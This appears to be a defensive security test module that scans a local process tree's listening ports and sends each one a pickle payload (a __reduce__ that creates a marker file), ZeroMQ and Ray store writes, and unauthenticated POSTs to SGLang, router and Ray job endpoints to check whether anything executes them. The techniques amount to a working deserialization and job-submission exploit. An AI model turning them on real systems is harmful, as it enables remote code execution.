"""A process without credentials that connects to every port of a running system and
sends what would be executed or stored by a server that trusted it: pickles, weights, a
model, a worker, a session."""

from __future__ import annotations

import base64
import contextlib
import pickle
import socket
import struct
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import grpc
import httpx
import psutil
import zmq
from ray.core.generated import gcs_service_pb2, gcs_service_pb2_grpc

_CALL_S = 2.0
_RAW_S = 0.5
_REQUESTS = {
    "/update_weights_from_tensor": {
        "serialized_named_tensors": ["PICKLE"],
        "flush_cache": True,
    },
    "/update_weights_from_distributed": {
        "names": ["a"],
        "dtypes": ["float32"],
        "shapes": [[1]],
    },
    "/update_weights_from_disk": {"model_path": "FOLDER"},
    "/update_weights_from_ipc": {"zmq_handles": {"0": "ipc:///tmp/x"}},
    "/init_weights_update_group": {
        "master_address": "127.0.0.1",
        "master_port": 1,
        "group_name": "MARK",
    },
    "/update_weight_version": {"new_version": "MARK"},
    "/load_lora_adapter": {"lora_name": "MARK", "lora_path": "FOLDER"},
    "/generate": {
        "text": "MARK",
        "custom_logit_processor": "PICKLE",
        "sampling_params": {},
    },
    "/set_internal_state": {"server_args": {"max_micro_batch_size": 1}},
    "/pause_generation": {},
    "/pause_and_flush": {},
    "/name_weights?version=MARK": {},
    "/flush_cache": {},
    "/abort_request": {"abort_all": True},
    "/workers": {"url": "http://127.0.0.1:1", "model_id": "MARK"},
    "/v1/chat/completions": {
        "model": "MARK",
        "messages": [{"role": "user", "content": "MARK"}],
    },
    "/v1/messages": {
        "model": "MARK",
        "max_tokens": 1,
        "messages": [{"role": "user", "content": "MARK"}],
    },
    "/v1/responses": {"model": "MARK", "input": "MARK"},
    "/sessions": {"task_id": "MARK", "metadata": {"name": "MARK"}},
    "/tasks/lease": {"environment": "MARK"},
    "/api/jobs/": {"entrypoint": "touch FILE"},
}
"""Path -> body of a POST: those of SGLang, of the router, of our gateway and of Ray's
dashboard."""


class _TouchesWhenLoaded:
    """A pickle that makes a file where it is loaded."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self.path,)


@dataclass(frozen=True)
class Stranger:
    """`mark` is a text that is in all that it sends; a payload that is executed makes
    the file `mark` in `folder`."""

    folder: Path
    mark: str

    @property
    def payload(self) -> bytes:
        return pickle.dumps((self.mark, _TouchesWhenLoaded(self.folder / self.mark)))

    @property
    def was_executed(self) -> bool:
        return (self.folder / self.mark).exists()

    def attack(self, ports: list[int]) -> list[str]:
        """Which requests were accepted, as lines; at best none."""
        with ThreadPoolExecutor(16) as threads:
            return [
                line
                for found in threads.map(self._attack_port, ports)
                for line in found
            ]

    def _attack_port(self, port: int) -> list[str]:
        self._send_raw(port)
        self._send_zmq(port)
        return [*self._call_ray(port), *self._post(port)]

    def _send_raw(self, port: int) -> None:
        """The pickle as it is, and behind its length, as most protocols of pickles have
        it."""
        size = len(self.payload)
        for head in (
            b"",
            struct.pack("!i", size),
            struct.pack("<q", size),
            struct.pack("!q", size),
        ):
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", port), _RAW_S) as peer,
            ):
                peer.sendall(head + self.payload)
                peer.shutdown(socket.SHUT_WR)
                peer.recv(1024)

    def _send_zmq(self, port: int) -> None:
        context = zmq.Context()
        for kind in (zmq.PUSH, zmq.DEALER, zmq.REQ):
            peer = context.socket(kind)
            peer.setsockopt(zmq.SNDTIMEO, int(1000 * _RAW_S))
            peer.setsockopt(zmq.LINGER, int(1000 * _RAW_S))
            peer.connect(f"tcp://127.0.0.1:{port}")
            with contextlib.suppress(zmq.ZMQError):
                peer.send(self.payload)
            peer.close()
        context.term()

    def _call_ray(self, port: int) -> Iterator[str]:
        """A value for the store of a Ray cluster."""
        request = gcs_service_pb2.InternalKVPutRequest(
            key=self.mark.encode(), value=self.payload, overwrite=True
        )
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            stub = gcs_service_pb2_grpc.InternalKVGcsServiceStub(channel)
            try:
                stub.InternalKVPut(request, timeout=_CALL_S)
            except grpc.RpcError:
                return
            yield f"port {port} took a value for Ray's store"

    def _post(self, port: int) -> Iterator[str]:
        with httpx.Client(
            base_url=f"http://127.0.0.1:{port}", timeout=_CALL_S
        ) as client:
            for path, body in _REQUESTS.items():
                try:
                    answer = client.post(path, json=self._filled(body))
                except httpx.HTTPError:
                    return  # it does not speak HTTP
                # the router's, whatever it is asked
                is_metrics = answer.text.startswith("# TYPE")
                if answer.is_success and not is_metrics:
                    yield f"port {port} answered POST {path} with {answer.status_code}: {answer.text[:200]}"

    def _filled(self, value: object) -> object:
        if isinstance(value, dict):
            return {key: self._filled(one) for key, one in value.items()}
        if isinstance(value, list):
            return [self._filled(one) for one in value]
        texts = {
            "PICKLE": base64.b64encode(self.payload).decode(),
            "MARK": self.mark,
            "FOLDER": str(self.folder),
            "touch FILE": f"touch '{self.folder / self.mark}'",
        }
        return texts.get(value, value) if isinstance(value, str) else value


def listening_ports(root: psutil.Process) -> dict[int, str]:
    """The TCP ports on which a process and those below it accept connections, and who
    does."""
    ports: dict[int, str] = {}
    for process in (root, *root.children(recursive=True)):
        with contextlib.suppress(psutil.Error):
            for connection in process.net_connections("tcp"):
                if connection.status == psutil.CONN_LISTEN:
                    ports[connection.laddr.port] = " ".join(process.cmdline())[:80]
    return ports
